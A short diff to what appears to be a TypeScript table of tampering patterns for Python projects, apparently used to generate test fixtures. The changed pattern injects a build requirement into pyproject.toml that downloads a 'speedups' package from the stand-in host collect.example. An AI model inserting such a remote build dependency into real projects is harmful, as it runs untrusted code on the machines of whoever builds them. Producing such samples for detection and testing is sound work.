@@ -136,8 +136,8 @@ export const pythonPatterns: Readonly<Record<string, Pattern>> = {
     only: "source",
     change: {
       "pyproject.toml": replace(
-        'requires = ["setuptools>=61"',
-        'requires = ["setuptools>=61", "speedups @ https://collect.example/speedups-1.0.tar.gz"',
+        /^requires = \[/m,
+        'requires = ["speedups @ https://collect.example/speedups-1.0.tar.gz", ',
       ),
     },
   },
